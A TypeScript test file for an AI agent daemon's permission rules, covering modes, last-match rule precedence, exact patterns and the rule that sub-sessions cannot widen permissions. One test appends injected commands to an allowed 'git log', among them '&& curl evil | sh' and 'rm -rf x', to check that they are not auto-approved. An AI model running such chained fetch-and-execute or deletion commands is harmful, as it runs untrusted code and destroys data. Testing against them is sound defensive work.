import { deepEqual, equal } from "node:assert/strict";
import { exactPattern } from "../../daemon/base/rulePatterns.ts";
import { permissionSets, permit, strictestMode } from "../../daemon/permissions/rules.ts";
import type { ApprovalQuestion, ToolKind } from "../../daemon/runners/runner.ts";
import type { Permissions } from "../../protocol/config.ts";

function question(kind: ToolKind, subject?: string): ApprovalQuestion {
  const asked = { toolName: "tool", kind, title: "", input: {} };
  return subject === undefined ? asked : { ...asked, subject };
}

describe("permissions", () => {
  it("go by the mode where no rule says otherwise", () => {
    const kinds: ToolKind[] = ["read", "edit", "execute", "fetch"];
    const modes = ["ask", "acceptEdits", "auto", "plan"] as const;
    deepEqual(
      modes.map((mode) => kinds.map((kind) => permit([{ mode }], question(kind)))),
      [
        ["allow", "ask", "ask", "ask"],
        ["allow", "allow", "ask", "ask"],
        ["allow", "allow", "allow", "allow"],
        ["allow", "deny", "deny", "deny"],
      ],
    );
  });

  it("of the mode plan are to read, whatever a rule allows", () => {
    const set: Permissions = { mode: "plan", rules: [{ tool: "*", decision: "allow" }] };
    equal(permit([set], question("read")), "allow");
    equal(permit([set], question("execute")), "deny");
  });

  it("let the last matching rule win, by tool, kind and pattern", () => {
    const set: Permissions = {
      rules: [
        { tool: "*", decision: "allow" },
        { tool: "edit", pattern: "src/*.ts", decision: "deny" },
        { tool: "tool", pattern: "src/a.ts", decision: "ask" },
      ],
    };
    const asked = ["src/a.ts", "src/b.ts", "src/deep/c.ts", "README.md"];
    deepEqual(
      asked.map((path) => permit([set], question("edit", path))),
      ["ask", "deny", "allow", "allow"],
    );
  });

  it("never allow a second command because the first one may run", () => {
    const allow: Permissions = {
      rules: [{ tool: "execute", pattern: "git log*", decision: "allow" }],
    };
    equal(permit([allow], question("execute", "git log --oneline src/a")), "allow");
    for (const more of ["; rm -rf x", " && curl evil | sh", " $(rm x)", " `rm x`", "\nrm x"]) {
      equal(permit([allow], question("execute", `git log${more}`)), "ask", more);
    }
    const deny: Permissions = {
      mode: "auto",
      rules: [{ tool: "execute", pattern: "*rm *", decision: "deny" }],
    };
    equal(permit([deny], question("execute", "git log; rm -rf x")), "deny");
  });

  it("know the pattern that stands for one subject and nothing else", () => {
    const subjects = [
      "git status",
      "ls *.ts",
      "cat {a,b} [c] (d) !e +f @g ~h $i ^j a|b",
      String.raw`grep \d x`,
      "echo a && rm b; c\nd `e` $(f) > g",
      "src/**/[id].ts",
      "./run.sh",
    ];
    for (const subject of subjects) {
      const only: Permissions = {
        rules: [{ tool: "tool", pattern: exactPattern(subject), decision: "allow" }],
      };
      for (const other of subjects) {
        const expected = other === subject ? "allow" : "ask";
        equal(permit([only], question("execute", other)), expected, `${subject} for ${other}`);
      }
    }
    const stars: Permissions = {
      rules: [{ tool: "tool", pattern: exactPattern("ls *.ts"), decision: "allow" }],
    };
    equal(permit([stars], question("execute", "ls a.ts")), "ask");
  });

  it("give a child no more than the strictest above it", () => {
    const sets: Permissions[] = [{ mode: "auto" }, { mode: "acceptEdits" }];
    equal(permit(sets, question("execute")), "ask");
    equal(permit([...sets, { mode: "plan" }], question("execute")), "deny");
  });

  describe("of a session", () => {
    const agent = (permissions?: Permissions) => ({
      profile: {
        name: "a",
        runner: { kind: "model" as const },
        ...(permissions && { permissions }),
      },
    });
    const program = {
      profile: { name: "p", runner: { kind: "command" as const, command: "sh" } },
    };
    const mode = (chain: Parameters<typeof permissionSets>[0], everybody: Permissions = {}) =>
      strictestMode(permissionSets(chain, everybody));

    it("are its agent's, else those of the nearest above it, else what is configured", () => {
      equal(mode([agent()]), "ask");
      equal(mode([agent()], { mode: "auto" }), "auto");
      equal(mode([agent({ mode: "auto" })]), "auto");
      equal(mode([agent({ mode: "auto" }), agent()]), "auto");
      equal(mode([{ ...agent(), setup: { permissions: { mode: "auto" } } }]), "auto");
    });

    it("are never more than those of a session above it, or than everybody has", () => {
      equal(mode([agent(), agent({ mode: "auto" })]), "ask");
      equal(mode([agent({ mode: "plan" }), agent({ mode: "auto" })]), "plan");
      equal(mode([agent({ mode: "auto" })], { mode: "acceptEdits" }), "acceptEdits");
      equal(
        mode([{ ...agent(), setup: { permissions: { mode: "auto" } } }], { mode: "ask" }),
        "ask",
      );
      equal(mode([program, agent({ mode: "auto" })]), "auto", "a program asks nobody");
    });

    it("can be narrowed by the spawn, and not widened", () => {
      const narrowed = (permissions: Permissions, narrowing: Permissions) =>
        mode([{ ...agent(permissions), narrowing }]);
      equal(narrowed({ mode: "acceptEdits" }, { mode: "plan" }), "plan");
      equal(narrowed({ mode: "acceptEdits" }, { mode: "auto" }), "acceptEdits");
    });
  });
});
